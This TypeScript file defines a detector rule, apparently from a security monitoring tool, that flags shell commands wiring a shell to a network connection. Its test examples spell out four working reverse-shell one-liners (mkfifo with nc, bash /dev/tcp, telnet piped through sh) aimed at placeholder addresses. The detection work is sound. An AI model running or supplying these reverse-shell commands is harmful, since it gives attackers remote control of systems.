import { short } from '../phrases.ts';
import type { Indicator } from './types.ts';

/** The shell's string wires a shell to a connection. */
export const revshellString: Indicator = {
  id: 'revshell_string',
  points: 70,
  hard: true,
  in_strings: true,
  mitre: ['T1059.004'],
  title: 'Shell wired to a connection',
  description:
    "A shell's string connects a shell's input and output to the network: a fifo between sh -i and nc, a shell on a /dev/tcp descriptor, telnet | sh | telnet, openssl s_client with a shell.",
  evaluate({ relation, own_string }) {
    if (relation?.shell_wired === undefined) return undefined;
    return {
      ...(own_string ? {} : { points: 60 }),
      evidence: short(relation.shell_wired),
      why: `${own_string ? 'its' : "the parent shell's"} string wires a shell to the connection (${short(relation.shell_wired, 120)})`,
    };
  },
  examples: {
    fires: [
      {
        run: 'nc 192.0.2.10 9001',
        by: ["sh -c 'rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.10 9001 >/tmp/f'"],
      },
      { run: "bash -c 'bash -i >& /dev/tcp/198.51.100.23/443 0>&1'" },
      { run: "sh -c 'telnet 203.0.113.9 4444 | /bin/sh | telnet 203.0.113.9 4445'" },
      { run: "bash -c 'exec 3<>/dev/tcp/203.0.113.9/4444; sh <&3 >&3 2>&3'" },
    ],
    silent: [
      { run: 'nc 192.0.2.10 9001', by: ["sh -c 'nc 192.0.2.10 9001'"] },
      { run: "bash -c 'exec 3<>/dev/tcp/db/5432; cat <&3'" },
    ],
  },
};
